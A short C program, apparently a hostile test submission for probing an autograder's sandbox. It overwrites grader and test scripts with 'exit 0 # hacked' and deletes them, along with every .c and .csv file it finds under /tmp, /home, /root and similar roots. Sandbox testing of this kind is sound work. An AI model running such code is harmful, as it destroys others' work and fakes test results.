/* Hostile: tries to rewrite the tests, the grader and other students' work:
 * every file named like a test, a grader or a submission that it can reach
 * under /tmp, /work, /home, /root and /autograder, and the grader's copies
 * next to its own directory. Then it prints how many attempts succeeded
 * and exits 3. */
#define _XOPEN_SOURCE 700
#include <fcntl.h>
#include <ftw.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

static int attempts, successes;

static void attack(const char *path)
{
    attempts++;
    int fd = open(path, O_WRONLY | O_TRUNC);
    if (fd != -1) {
        successes++;
        const char evil[] = "exit 0 # hacked\n";
        if (write(fd, evil, sizeof evil - 1) < 0)
            successes--;
        close(fd);
    }
    if (unlink(path) == 0)
        successes++;
}

static int visit(const char *path, const struct stat *info, int type, struct FTW *where)
{
    (void)info;
    if (type != FTW_F || where->level > 7)
        return 0;
    const char *name = path + where->base;
    size_t length = strlen(name);
    if (strcmp(name, "grade") == 0 || strcmp(name, "tests.sh") == 0 ||
        strcmp(name, "harness.bash") == 0 || strcmp(name, "run_autograder") == 0 ||
        (length > 2 && strcmp(name + length - 2, ".c") == 0) ||
        (length > 4 && strcmp(name + length - 4, ".csv") == 0))
        attack(path);
    return 0;
}

int main(void)
{
    const char *near[] = { "../kit/tests.sh", "../kit/lib/harness.bash", "../bin/tcp-echo",
                           "../peer", "../logs/test.1.log" };
    for (size_t i = 0; i < sizeof near / sizeof near[0]; i++)
        attack(near[i]);
    const char *roots[] = { "/tmp", "/work", "/home", "/root", "/autograder" };
    for (size_t i = 0; i < sizeof roots / sizeof roots[0]; i++)
        nftw(roots[i], visit, 16, FTW_PHYS);
    printf("tamper: %d attempts, %d succeeded\n", attempts, successes);
    return 3;
}
